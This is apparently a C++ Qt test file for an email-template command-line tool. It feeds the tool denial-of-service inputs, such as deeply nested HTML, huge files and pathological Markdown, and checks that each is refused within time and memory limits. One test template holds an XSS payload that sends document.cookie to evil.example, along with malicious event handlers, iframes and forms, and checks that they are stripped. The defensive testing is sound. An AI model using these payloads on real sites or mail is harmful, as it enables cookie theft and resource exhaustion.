// SPDX-License-Identifier: GPL-3.0-or-later
// Hostile templates against the real luxctl (issue 13): each case runs `luxctl template import`,
// `check` or `render` as a child under a wall clock (runBounded) and holds it to ending on its own
// within 10 s (a bound, not a speed), under 1 GiB at its peak, with the expected error code from
// --json or the expected result, and with the templates in the database unchanged when it fails.
#include "boundedrun.h"
#include "common/errorcodes.h"
#include "databasefixture.h"
#include "storage/sqlitefile.h"
#include "testsupport.h"

#include <QCryptographicHash>
#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QSqlError>
#include <QSqlQuery>
#include <QSqlRecord>
#include <QTest>

#include <sys/stat.h>

using namespace lux;

namespace {

constexpr int kWallClockMs = 10'000;
constexpr qint64 kPeakKiB = 1024 * 1024; // 1 GiB

const QByteArray kFooter = "<p>{{brand.address}} <a href=\"{{{unsubscribe_url}}}\">Unsubscribe</a></p>\n";

// What a case's template is: a file of generated HTML, something at a path that is no regular
// file, or a template stored in the database as an older version would have left it.
enum class Input { File, Fifo, Directory, DevZero, Stored };

// Everything the templates tables hold, as one digest: equal before and after a refused command.
QByteArray templatesDigest(const QString &dbPath)
{
    storage::ScopedConnection conn(dbPath, storage::ScopedConnection::Mode::ReadOnly);
    QCryptographicHash hash(QCryptographicHash::Sha256);
    QSqlQuery q(conn.db());
    for (const char *sql : {"SELECT id, name, format, subject, preheader, source, text_part, updated_at FROM templates ORDER BY id",
                            "SELECT id, template_id, source, at FROM template_revisions ORDER BY id",
                            "SELECT id, name, source FROM components ORDER BY id"}) {
        if (!q.exec(QString::fromLatin1(sql)))
            return "query failed: " + q.lastError().text().toUtf8();
        while (q.next())
            for (int i = 0; i < q.record().count(); ++i)
                hash.addData(q.value(i).toString().toUtf8().append('\x1f'));
        hash.addData("\x1e");
    }
    return hash.result().toHex();
}

// A case's content, made when the case runs: the test process stays small, since a child started
// with posix_spawn (vfork) begins its peak-memory count from the parent's.
struct Recipe
{
    QByteArray head;
    QByteArray unit;
    int count = 0;
    QByteArray tail;
    bool markdown = false;
    QByteArray make() const
    {
        if (!unit.contains("{n}")) // "{n}": the repetition's number, so that no two are alike
            return head + unit.repeated(count) + tail;
        QByteArray out = head;
        for (int k = 1; k <= count; ++k)
            out += QByteArray(unit).replace("{n}", QByteArray::number(k));
        return out + tail;
    }
};

Recipe nested(const QByteArray &open, int depth)
{
    return {kFooter, open, depth, "deep\n", false};
}

} // namespace

Q_DECLARE_METATYPE(Recipe)

class TestHostileContent : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void luxctlTemplate_data();
    void luxctlTemplate();
    void renderedMimeLeavesUnsafeMarkupOut();

private:
    struct Outcome
    {
        test::BoundedRun run;
        QJsonObject json;
    };
    Outcome luxctl(const QString &db, const QStringList &args)
    {
        Outcome o;
        o.run = test::runBounded(QStringLiteral(LUXCTL_PATH), QStringList{QStringLiteral("--db"), db} + args + QStringList{QStringLiteral("--json")},
                                 kWallClockMs);
        o.json = QJsonDocument::fromJson(o.run.out.left(o.run.out.indexOf('\n'))).object();
        return o;
    }
};

void TestHostileContent::luxctlTemplate_data()
{
    QTest::addColumn<QString>("command");  // import, check or render
    QTest::addColumn<int>("input");        // Input
    QTest::addColumn<Recipe>("content");   // the file's, or the stored template's source
    QTest::addColumn<QString>("code");     // the expected error code; empty: it succeeds
    QTest::addColumn<QString>("message");  // a part of the error message (the place)

    const auto file = int(Input::File);
    const QString tooDeep(errc::htmlTooDeep);
    for (const char *command : {"import", "check", "render"}) {
        const QString c = QString::fromLatin1(command);
        for (const int depth : {5'000, 10'000, 100'000}) {
            // The footer is line 1; the 513th element opens on line 2, 5 characters each.
            QTest::addRow("%s divs %d", command, depth)
                << c << file << nested("<div>", depth) << tooDeep << QStringLiteral("line 2, column 2561, <div>");
            QTest::addRow("%s tables %d", command, depth)
                << c << file << nested("<table><tr><td>", depth) << tooDeep << QStringLiteral("line 2, column");
        }
        // The neighbours: 512 deep is accepted, checked and rendered.
        QTest::addRow("%s divs 512", command) << c << file << nested("<div>", 512) << QString() << QString();
        QTest::addRow("%s divs 513", command) << c << file << nested("<div>", 513) << tooDeep << QStringLiteral("line 2, column 2561, <div>");
        QTest::addRow("%s fifo", command) << c << int(Input::Fifo) << Recipe() << QString(errc::fileNotRegular) << QStringLiteral("FIFO");
        QTest::addRow("%s directory", command) << c << int(Input::Directory) << Recipe() << QString(errc::fileNotRegular)
                                               << QStringLiteral("is a folder");
        QTest::addRow("%s /dev/zero", command) << c << int(Input::DevZero) << Recipe() << QString(errc::fileNotRegular)
                                               << QStringLiteral("/dev/zero");
        // 20 MB of text: read (under the 20 MiB file cap), refused by the character limit unparsed.
        QTest::addRow("%s 20 MB", command) << c << file << Recipe{kFooter, "a", 20'000'000, {}, false}
                                           << QString(errc::htmlTooLarge) << QStringLiteral("characters long");
        // 30 MB: refused before a byte is read.
        QTest::addRow("%s 30 MB", command) << c << file << Recipe{{}, "a", 30'000'000, {}, false} << QString(errc::fileTooLarge)
                                           << QStringLiteral("the limit for this kind of file");
        // Formatting elements a </p> closes, each with its own attributes, which the parser reopens at
        // the next text: 210 KB made gumbo build a tree 20,000 deep (46 s, 3 GB) behind a depth of 101.
        QTest::addRow("%s reopened formatting", command) << c << file
                                                         << Recipe{kFooter, "<p><b x={n}0><b x={n}1><b x={n}2><b x={n}3><b x={n}4></p>t", 4'000, {}, false}
                                                         << tooDeep << QStringLiteral("<b>");
        // What the measure once misread (found by htmltext_fuzz): a quote in a tag name hid the rest of
        // the file (30,000 divs behind it: 44 s, 7 GB), and "/>" on an HTML element closes nothing.
        QTest::addRow("%s quote in a tag name", command) << c << file << Recipe{kFooter + "<p\">", "<div>", 30'000, "deep", false}
                                                        << tooDeep << QStringLiteral("<div>");
        QTest::addRow("%s divs self-closing 100000", command) << c << file << Recipe{kFooter, "<div/>", 100'000, "deep", false}
                                                             << tooDeep << QStringLiteral("<div>");
        // Markdown that cmark-gfm takes quadratic time on: refused before it is converted.
        QTest::addRow("%s markdown 1 MiB of ![[]()", command) << c << file << Recipe{{}, "![[]()", 180'000, {}, true}
                                                            << QString(errc::templateMarkdown) << QStringLiteral("characters of Markdown");
        QTest::addRow("%s markdown row of 50000 cells", command) << c << file << Recipe{"# Prices\n\n", "|", 50'000, "\n|-|-|\n", true}
                                                               << QString(errc::templateMarkdown) << QStringLiteral("than 256 cells on line 3");
        QTest::addRow("%s markdown 5000 quotes deep", command) << c << file << Recipe{kFooter + "\n", ">", 5'000, " deep\n", true}
                                                              << tooDeep << QStringLiteral("<blockquote>");
    }
    // Saved by a version before the limits: check and render refuse it, naming it and the place.
    for (const char *command : {"check", "render"}) {
        const QString c = QString::fromLatin1(command);
        QTest::addRow("%s stored divs 100000", command) << c << int(Input::Stored) << nested("<div>", 100'000) << tooDeep
                                                        << QStringLiteral("The template “Old” nests elements more than 512 deep: line 2, column 2561");
        QTest::addRow("%s stored tables 7000", command) << c << int(Input::Stored) << nested("<table><tr><td>", 7'000) << tooDeep
                                                        << QStringLiteral("The template “Old” nests");
        QTest::addRow("%s stored 6 M characters", command) << c << int(Input::Stored) << Recipe{kFooter, "a", 6'000'000, {}, false}
                                                           << QString(errc::htmlTooLarge) << QStringLiteral("The template “Old” is");
        QTest::addRow("%s stored divs 512", command) << c << int(Input::Stored) << nested("<div>", 512) << QString() << QString();
    }
}

void TestHostileContent::luxctlTemplate()
{
    QFETCH(QString, command);
    QFETCH(int, input);
    QFETCH(Recipe, content);
    QFETCH(QString, code);
    QFETCH(QString, message);

    test::DatabaseFixture fx;
    QVERIFY(fx.open());
    QVERIFY(fx.addBrandKit());
    QString ref; // the file or template name luxctl is given
    switch (Input(input)) {
    case Input::File: {
        ref = fx.filePath(QStringLiteral("hostile.html"));
        QFile f(ref);
        QVERIFY(f.open(QIODevice::WriteOnly));
        const QByteArray bytes = content.make();
        QCOMPARE(f.write(bytes), bytes.size());
        break;
    }
    case Input::Fifo:
        ref = fx.filePath(QStringLiteral("template.fifo"));
        QCOMPARE(::mkfifo(QFile::encodeName(ref).constData(), 0600), 0);
        break;
    case Input::Directory:
        ref = fx.filePath(QStringLiteral("folder.html"));
        QVERIFY(QDir().mkpath(ref));
        break;
    case Input::DevZero: ref = QStringLiteral("/dev/zero"); break;
    case Input::Stored: {
        // As an older version saved it: straight into the table, past today's limits.
        const auto id = fx.addTemplate(QStringLiteral("Old"), QStringLiteral("Hello"), QStringLiteral("<p>x</p>"), QStringLiteral("Hi"));
        QVERIFY(id.ok());
        QSqlQuery q(fx.db());
        q.prepare(QStringLiteral("UPDATE templates SET source = ? WHERE id = ?"));
        q.addBindValue(QString::fromUtf8(content.make()));
        q.addBindValue(*id);
        QVERIFY(q.exec());
        ref = QStringLiteral("Old");
        break;
    }
    }
    fx.close();
    const QByteArray before = templatesDigest(fx.path());

    QStringList args{QStringLiteral("template"), command, ref};
    if (command == QLatin1String("import"))
        args << QStringLiteral("--name") << QStringLiteral("Hostile");
    if (content.markdown)
        args << QStringLiteral("--format") << QStringLiteral("markdown");
    if (Input(input) != Input::Stored)
        args << QStringLiteral("--subject") << QStringLiteral("Hello") << QStringLiteral("--preheader") << QStringLiteral("Hi");
    if (command == QLatin1String("render"))
        args << QStringLiteral("--html") << fx.filePath(QStringLiteral("out.html")) << QStringLiteral("--text")
             << fx.filePath(QStringLiteral("out.txt"));
    const Outcome o = luxctl(fx.path(), args);
    qInfo("%s: %lld ms, peak %lld MiB, exit %d, signal %d", QTest::currentDataTag(), o.run.elapsedMs, o.run.peakRssKiB / 1024,
          o.run.exitCode, o.run.signal);

    QVERIFY2(o.run.started, "luxctl did not start");
    QVERIFY2(!o.run.timedOut, qPrintable(o.run.describe()));
    QVERIFY2(o.run.signal == 0, qPrintable(o.run.describe())); // SIGSEGV (139) before issue 13
    QVERIFY2(o.run.elapsedMs < kWallClockMs, qPrintable(o.run.describe()));
    QVERIFY2(o.run.peakRssKiB < kPeakKiB, qPrintable(o.run.describe()));

    if (code.isEmpty()) {
        QVERIFY2(o.run.exitCode == 0, qPrintable(o.run.describe()));
        QCOMPARE(o.json.value(QStringLiteral("ok")).toBool(), true);
        if (command == QLatin1String("render")) // the walk's text, at 512 deep
            QCOMPARE(test::readAll(fx.filePath(QStringLiteral("out.txt"))), QByteArray("1 Main St, Springfield Unsubscribe [1]\n\ndeep\n\n"
                                                                                          "[1] https://unsubscribe.invalid/preview"));
        if (command == QLatin1String("import"))
            QVERIFY(templatesDigest(fx.path()) != before);
        else
            QCOMPARE(templatesDigest(fx.path()), before);
        return;
    }
    QVERIFY2(o.run.exitCode == 1, qPrintable(o.run.describe()));
    QCOMPARE(o.json.value(QStringLiteral("ok")).toBool(true), false);
    const QJsonObject error = o.json.value(QStringLiteral("error")).toObject();
    QCOMPARE(error.value(QStringLiteral("code")).toString(), code);
    QVERIFY2(error.value(QStringLiteral("message")).toString().contains(message), qPrintable(error.value(QStringLiteral("message")).toString()));
    if (Input(input) == Input::File) // the file, named
        QVERIFY2(error.value(QStringLiteral("message")).toString().contains(QStringLiteral("hostile.html")),
                 qPrintable(error.value(QStringLiteral("message")).toString()));
    QCOMPARE(templatesDigest(fx.path()), before);
    QVERIFY(!QFile::exists(fx.filePath(QStringLiteral("out.html"))));
}

void TestHostileContent::renderedMimeLeavesUnsafeMarkupOut()
{
    test::DatabaseFixture fx;
    QVERIFY(fx.open());
    QVERIFY(fx.addBrandKit());
    fx.close();
    const QString file = fx.filePath(QStringLiteral("unsafe.html"));
    {
        QFile f(file);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write("<p onclick=\"steal()\">Hi {{first_name | default: \"there\"}}</p>\n"
                "<script>document.location='https://evil.example/?'+document.cookie</script>\n"
                "<iframe src=\"https://evil.example/frame\"></iframe>\n"
                "<form action=\"https://evil.example/f\"><p>Rate us</p><input name=\"q\"><button onmouseover=\"x()\">Send</button>"
                "<select><option>5</option></select><textarea>t</textarea></form>\n"
                "<img src=\"https://acme.example/a.png\" alt=\"Logo\" onerror=\"x()\"><object data=\"a.swf\"></object>\n"
                + kFooter);
    }
    Outcome o = luxctl(fx.path(), {QStringLiteral("template"), QStringLiteral("import"), file, QStringLiteral("--name"),
                                   QStringLiteral("Unsafe"), QStringLiteral("--subject"), QStringLiteral("Hello"),
                                   QStringLiteral("--preheader"), QStringLiteral("Hi")});
    QVERIFY2(o.run.exitedNormally() && o.run.exitCode == 0, qPrintable(o.run.describe())); // saved: warnings, not errors

    o = luxctl(fx.path(), {QStringLiteral("template"), QStringLiteral("check"), QStringLiteral("Unsafe")});
    QVERIFY2(o.run.exitedNormally() && o.run.exitCode == 0, qPrintable(o.run.describe()));
    QStringList found;
    for (const QJsonValue &v : o.json.value(QStringLiteral("findings")).toArray()) {
        const QJsonObject f = v.toObject();
        found << QStringLiteral("%1 %2 %3:%4").arg(f.value(QStringLiteral("severity")).toString(), f.value(QStringLiteral("code")).toString())
                     .arg(f.value(QStringLiteral("line")).toInt()).arg(f.value(QStringLiteral("column")).toInt());
    }
    QCOMPARE(found, (QStringList{QStringLiteral("warning unsafe.handler 1:4"), QStringLiteral("warning unsafe.script 2:1"),
                                 QStringLiteral("warning unsafe.frame 3:1"), QStringLiteral("warning unsafe.form 4:1"),
                                 QStringLiteral("warning unsafe.form 4:53"), QStringLiteral("warning unsafe.form 4:69"),
                                 QStringLiteral("warning unsafe.form 4:108"), QStringLiteral("warning unsafe.form 4:143"),
                                 QStringLiteral("warning unsafe.handler 5:50"), QStringLiteral("warning unsafe.embed 5:64")}));
    const QJsonArray findings = o.json.value(QStringLiteral("findings")).toArray();
    QCOMPARE(findings.at(1).toObject().value(QStringLiteral("message")).toString(),
             QStringLiteral("Removed from the message: <script> at line 2, column 1. Mail clients strip scripts and spam filters "
                            "count them against you."));

    const QString eml = fx.filePath(QStringLiteral("out.eml"));
    o = luxctl(fx.path(), {QStringLiteral("template"), QStringLiteral("render"), QStringLiteral("Unsafe"), QStringLiteral("--mime"), eml});
    QVERIFY2(o.run.exitedNormally() && o.run.exitCode == 0, qPrintable(o.run.describe()));
    QByteArray message = test::readAll(eml);
    message.replace("=\r\n", ""); // quoted-printable's soft line breaks
    message.replace("=3D", "=");
    const qsizetype html = message.indexOf("Content-Type: text/html");
    QVERIFY2(html > 0, message.left(600).constData());
    const QByteArray htmlPart = message.mid(html);
    QVERIFY2(htmlPart.contains("<p >Hi there</p>"), htmlPart.constData());
    QVERIFY(htmlPart.contains("<p>Rate us</p>"));
    QVERIFY(htmlPart.contains("<img src=\"https://acme.example/a.png\" alt=\"Logo\" >"));
    for (const char *gone : {"<script", "evil.example", "onclick", "onerror", "onmouseover", "<iframe", "<form", "<input", "<button",
                             "<select", "<textarea", "<object", "steal"})
        QVERIFY2(!message.contains(gone), gone); // in neither part
    QVERIFY(message.contains("Rate us"));
}

LUX_TEST_MAIN(TestHostileContent, QCoreApplication)
#include "tst_hostile_content.moc"
